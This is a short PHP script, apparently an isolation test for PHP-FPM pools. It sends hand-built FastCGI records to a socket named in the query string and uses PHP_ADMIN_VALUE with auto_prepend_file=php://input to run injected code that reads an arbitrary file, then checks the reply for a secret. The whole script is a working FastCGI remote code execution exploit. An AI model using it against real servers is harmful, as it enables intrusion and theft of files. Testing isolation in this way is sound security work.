<?php // Asks another pool, at the socket that the query names, to run code there: the crossing that promise 4 is about.
[$to, $file] = explode(' ', urldecode($_SERVER['QUERY_STRING']));
$code = "<?php readfile('$file'); exit;";
$pair = fn($k, $v) => chr(strlen($k)) . chr(strlen($v)) . $k . $v;
$record = fn($type, $data) => pack('CCnnCC', 1, $type, 1, strlen($data), 0, 0) . $data;
$values = "allow_url_include=1\nauto_prepend_file=php://input";
$params = $pair('REQUEST_METHOD', 'POST') . $pair('SCRIPT_FILENAME', dirname($file) . '/who.php')
        . $pair('CONTENT_LENGTH', (string)strlen($code)) . $pair('PHP_ADMIN_VALUE', $values);

$socket = @stream_socket_client($to, $error, $reason, 5) or exit($reason);
fwrite($socket, $record(1, pack('nC6', 1, 0, 0, 0, 0, 0, 0)) . $record(4, $params) . $record(4, '')
              . $record(5, $code) . $record(5, ''));
$answer = '';
while (!feof($socket) && strlen($answer) < 65536) $answer .= fread($socket, 8192);
echo preg_match("/[a-z]+'s secret/", $answer, $found) ? $found[0] : 'an answer without it';
